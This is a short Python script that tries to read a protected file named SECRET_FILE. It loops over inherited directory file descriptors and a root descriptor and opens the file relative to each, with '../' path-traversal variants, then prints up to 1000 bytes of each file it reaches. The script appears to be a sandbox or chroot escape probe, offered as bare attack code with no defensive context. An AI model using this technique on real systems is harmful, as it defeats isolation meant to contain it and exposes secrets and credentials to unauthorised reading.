# Opens the root by number of every folder that is open, and climbs down from there with two dots in front.
import os

down = SECRET_FILE.lstrip("/")
found = 0
for number in list(range(3, 40)) + [os.open("/", os.O_RDONLY)]:
    for path in (down, "../" * 12 + down, "./" + down, "tmp/../" + down):
        try:
            descriptor = os.open(path, os.O_RDONLY, dir_fd=number)
        except OSError:
            continue
        found += 1
        print(os.read(descriptor, 1000).decode("latin-1"))
        os.close(descriptor)
print(found)
